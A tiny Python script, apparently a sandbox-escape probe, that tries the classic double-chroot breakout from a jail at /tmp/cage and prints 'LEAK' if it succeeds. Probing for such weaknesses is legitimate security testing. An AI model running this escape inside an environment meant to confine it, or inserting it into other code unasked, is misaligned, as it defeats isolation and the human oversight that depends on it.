# Leaves by the old trick of a second root.
import os
try:
    os.mkdir('/tmp/cage')
    os.chroot('/tmp/cage')
    for _ in range(64):
        os.chdir('..')
    os.chroot('.')
    print('LEAK')
except OSError as error:
    print(error)
